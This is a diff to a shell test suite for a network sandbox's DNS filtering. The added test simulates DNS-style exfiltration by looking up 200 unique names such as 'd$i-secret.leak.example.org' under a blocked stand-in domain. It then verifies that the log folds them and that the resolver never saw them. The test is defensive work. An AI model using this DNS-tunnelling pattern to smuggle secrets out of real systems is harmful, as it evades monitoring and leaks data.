@@ -61,8 +61,20 @@ tb_check "the same address without the name is blocked" [ "$?" = 1 ]
 run_app "$NET" resolve-connect "$INET4" ntp.example.org 443 3 >/dev/null 2>&1
 tb_check "dns_allow resolves but does not allow the connection" [ "$?" = 1 ]
 
+# DNS-looking exfiltration: 200 unique names under one blocked domain. Nothing reaches the
+# resolver, and the log folds them (the first whole, the rest as *.leak.example.org).
+run_app sh -c "i=0; while [ \$i -lt 200 ]; do i=\$((i + 1));
+	$NET resolve-connect $INET4 d\$i-secret.leak.example.org 443 1 >/dev/null 2>&1; done"
+sleep 1.5
+recs=$(tb_log_count 'leak.example.org')
+sum=$(grep -F 'leak.example.org' "$TB_LOG" | sed -n 's/.*"count":\([0-9]*\).*/\1/p' |
+	awk '{ s += $1 } END { print s + 0 }')
+tb_check "200 unique blocked names fold into $recs records" [ "$recs" -ge 1 -a "$recs" -le 4 ]
+tb_check "whose counts add up to 200 (got $sum)" [ "$sum" = 200 ]
+tb_check "the folded record names the domain" [ "$(tb_log_count '"host":"*.leak.example.org"')" -ge 1 ]
+
 n=$(tb_capture_count "$cap" "$TB_TMP/inet.pcap" 'udp port 53 and (src host 203.0.113.2)')
-q=$(tcpdump -n -r "$TB_TMP/inet.pcap" 'udp port 53' 2>/dev/null | grep -c 'evil\|bad\.')
+q=$(tcpdump -n -r "$TB_TMP/inet.pcap" 'udp port 53' 2>/dev/null | grep -c 'evil\|bad\.\|leak')
 t=$(tcpdump -n -r "$TB_TMP/inet.pcap" 'udp port 53' 2>/dev/null | grep -c 'A? tiles')
 tb_check "the resolver never saw the blocked names ($q of $n queries)" [ "$q" = 0 ]
 tb_check "it saw the allowed one ($t)" [ "$t" -ge 1 ]
